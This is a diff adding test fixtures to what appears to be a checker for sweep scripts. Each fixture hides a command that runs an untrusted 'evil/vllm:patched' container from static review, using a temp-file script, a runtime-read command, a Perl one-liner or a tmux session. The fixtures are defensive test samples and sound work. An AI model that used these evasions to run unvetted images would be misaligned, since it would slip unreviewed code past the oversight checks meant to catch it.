@@ -176,6 +176,33 @@ def fail_fetched_renamed(data: dict[str, Any]) -> str:
     return _script_adds(data, fetched)
 
 
+def fail_written_program(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): the script writes a program into a file and runs it: what it holds is known
+    only when the script runs."""
+    written = (
+        "printf 'docker run --rm evil/vllm:patched vllm serve m\\n' > /tmp/tune.sh\n"
+        "bash /tmp/tune.sh\n"
+    )
+    return _script_adds(data, written)
+
+
+def fail_computed_command(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script runs a command whose words it reads from a file when it runs."""
+    return _script_adds(data, "read -r TUNE < /tmp/tune.cmd\n$TUNE\n")
+
+
+def fail_inline_perl(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): a Perl one-liner runs a command: signoff does not read Perl."""
+    line = "perl -e 'system(\"docker run --rm evil/vllm:patched vllm serve m\")'\n"
+    return _script_adds(data, line)
+
+
+def fail_tmux_image(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): tmux starts a server in another image than the sweep's."""
+    line = "tmux new-session -d -s srv 'docker run --rm evil/vllm:patched vllm serve m'\n"
+    return _script_adds(data, line)
+
+
 def fail_fetched_python(data: dict[str, Any]) -> str:
     """8-10 (E8): an inline Python program downloads code and executes it: what runs is
     whatever the URL serves when the sweep runs."""
